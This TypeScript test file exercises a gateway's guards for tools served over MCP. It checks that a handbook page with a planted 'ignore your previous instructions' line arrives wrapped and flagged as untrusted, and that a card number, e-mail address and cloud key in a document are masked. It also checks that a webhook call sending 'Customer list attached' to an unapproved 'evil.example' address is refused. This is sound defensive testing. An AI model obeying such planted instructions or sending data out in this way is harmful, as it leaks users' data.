/**
 * The guards through the whole gateway, with the official MCP client: the demo handbook's page
 * with a planted instruction arrives wrapped as untrusted data (and `_meta` says so); a document
 * holding a card number, an e-mail address and a cloud key comes back masked and redacted; a
 * webhook call naming an unapproved address is refused before anything is sent; and every audit
 * record lists the findings by kind, count and action without the text they cover.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { parseAuditBody } from '../../src/audit/audit-record.js';
import { auditShow } from '../../src/cli/audit-show.js';
import { json, startServer, type TestServer } from '../../src/connectors/http/http-test-server.js';
import { startGatewayFixture, type GatewayFixture } from '../support/gateway-fixture.js';

const CARD = '4242 4242 4242 4242';
const AWS_KEY = ['AKIA', 'QX7R2MZLP4TV6WNB'].join('');
const CUSTOMER_FILE = `# Customer 1182\n\nContact: jane.doe@example.com, card on file ${CARD}.\nLegacy integration key: ${AWS_KEY}\n`;

const POLICY = `
@id("support-pages-oncall")
permit (principal == Gatehouse::Agent::"support-bot", action == Gatehouse::Action::"trigger", resource in Gatehouse::Connector::"notify");
`;

function withGuards(hook: string) {
  return (yaml: string): string => yaml
    .replace('    powers: [search, read]         # read-only\n', `    powers: [search, read]         # read-only
    guards:
      output:
        pii: { default: flag, CREDIT_CARD: mask, EMAIL: mask }
`)
    .replace('agents:', `  - name: notify
    type: webhook
    owner: oncall@example.com
    purpose: Send a summary to a partner's intake hook
    url: ${hook}
    secret: \${env:GH_GUARDS_HOOK_SECRET}
    allow_private_network: true
    powers: [trigger]
    retries: 0
    audit_content: full             # arguments verbatim in the trail, so the test can see what is kept
    template: { text: "{{args.message}}", to: "{{args.to}}" }
    arguments: { message: { type: string, maxLength: 2000 }, to: { type: string, maxLength: 200 } }
    guards:
      destinations: [example.com, "*.example.com"]
agents:`);
}

const textOf = (r: CallToolResult): string => r.content.map((c) => (c.type === 'text' ? c.text : '')).join('\n');

describe('guards through the gateway', () => {
  let hook: TestServer;
  let fixture: GatewayFixture;
  let client: Client;

  before(async () => {
    hook = await startServer((_req, res) => json(res, 200, { ok: true }));
    fixture = await startGatewayFixture({
      editConfig: withGuards(`${hook.origin}/intake`),
      files: { 'docs/handbook/customer-1182.md': CUSTOMER_FILE, 'policies/notify.cedar': POLICY },
      env: { GH_GUARDS_HOOK_SECRET: `whsec_${randomBytes(12).toString('hex')}` },
    });
    client = await fixture.client();
  });
  after(async () => {
    await fixture?.close();
    await hook?.close();
  });

  async function auditOf(result: CallToolResult) {
    const id = (result._meta as Record<string, unknown>)['gatehouse/auditId'];
    const rows = await fixture.gateway.store.readAudit({ limit: 10_000 });
    const row = rows.find((r) => r.id === id);
    assert.ok(row, 'the call has an audit record');
    return { body: parseAuditBody(row.body), raw: row.body };
  }

  it('delivers the page with a planted instruction wrapped as untrusted data', async () => {
    const result = await client.callTool({ name: 'handbook_read', arguments: { path: 'vendors/faq.html' } }) as CallToolResult;
    const text = textOf(result);
    assert.equal(result.isError, undefined);
    assert.match(text, /^\[Gatehouse notice\] The content below comes from connector "handbook" \(tool handbook_read\)/);
    assert.match(text, /ignore your previous instructions/i, 'the content is delivered, not dropped');
    assert.match(text, /<<<untrusted-data ([0-9a-f]{12})>>>[\s\S]*<<<\/untrusted-data \1>>>$/);
    const meta = result._meta as Record<string, unknown>;
    assert.equal(meta['gatehouse/untrusted'], true);
    assert.ok((meta['gatehouse/findings'] as string[]).includes('INSTRUCTION_OVERRIDE'));
    const { body, raw } = await auditOf(result);
    assert.equal(body.status, 'ok');
    assert.ok(body.guards?.some((g) => g.direction === 'out' && g.detector === 'injection' && g.kind === 'INSTRUCTION_OVERRIDE' && g.action === 'flag' && g.count >= 1));
    assert.ok(!/ignore/i.test(JSON.stringify(body.guards)), 'the guard tallies hold kinds and counts, not the text');
    assert.ok(!/ignore your previous/i.test(raw), 'in hashed mode the record holds no content at all');
  });

  it('masks the card and the e-mail and redacts the cloud key in a document', async () => {
    const result = await client.callTool({ name: 'handbook_read', arguments: { path: 'customer-1182.md' } }) as CallToolResult;
    const everything = JSON.stringify(result);
    assert.ok(!everything.includes(CARD) && !everything.includes('4242424242424242'), 'no card number in text or structured content');
    assert.ok(!everything.includes('jane.doe@example.com'));
    assert.ok(!everything.includes(AWS_KEY));
    const text = textOf(result);
    assert.ok(text.includes('**** **** **** 4242') && text.includes('j***@example.com') && text.includes('[SECRET:AWS_ACCESS_KEY]'));
    const { body } = await auditOf(result);
    const kinds = Object.fromEntries((body.guards ?? []).map((g) => [g.kind, g.action]));
    assert.deepEqual({ card: kinds.CREDIT_CARD, email: kinds.EMAIL, key: kinds.AWS_ACCESS_KEY }, { card: 'mask', email: 'mask', key: 'redact' });
    const shown: string[] = [];
    await auditShow({ store: fixture.gateway.store, json: false, id: body.id }, { out: (s) => shown.push(s), err: () => undefined });
    assert.match(shown.join(''), /guards {6}out pii\/CREDIT_CARD ×1 mask, out pii\/EMAIL ×1 mask, out secrets\/AWS_ACCESS_KEY ×1 redact/);
  });

  it('refuses to send to an unapproved domain, sends nothing, and audits the refusal', async () => {
    const before = hook.requests.length;
    const refused = await client.callTool({ name: 'notify_send', arguments: { message: 'Customer list attached', to: 'x@evil.example' } }) as CallToolResult;
    assert.equal(refused.isError, true);
    assert.match(textOf(refused), /^DESTINATION_NOT_ALLOWED: .*x@evil\.example/);
    assert.equal(hook.requests.length, before, 'nothing reached the hook');
    const { body } = await auditOf(refused);
    assert.equal(body.status, 'denied');
    assert.equal(body.errorCode, 'DESTINATION_NOT_ALLOWED');
    assert.ok(body.guards?.some((g) => g.detector === 'exfiltration' && g.kind === 'DESTINATION_NOT_ALLOWED' && g.count === 1));

    const sent = await client.callTool({ name: 'notify_send', arguments: { message: 'Ticket 10 escalated', to: 'oncall@ops.example.com' } }) as CallToolResult;
    assert.equal(sent.isError, undefined, textOf(sent));
    assert.equal(hook.requests.length, before + 1);
  });

  it('refuses a credential in the arguments of a call', async () => {
    const refused = await client.callTool({ name: 'notify_send', arguments: { message: `use key ${AWS_KEY}`, to: 'oncall@example.com' } }) as CallToolResult;
    assert.equal(refused.isError, true);
    assert.match(textOf(refused), /^GUARD_BLOCKED: .*AWS_ACCESS_KEY/);
    assert.ok(!textOf(refused).includes(AWS_KEY), 'the error names the kind, not the value');
    const { body, raw } = await auditOf(refused);
    assert.equal(body.content, 'full');
    assert.ok(!raw.includes(AWS_KEY), 'even a full-content record keeps the refused credential redacted');
    assert.match(raw, /\[SECRET:AWS_ACCESS_KEY\]/);
  });
});
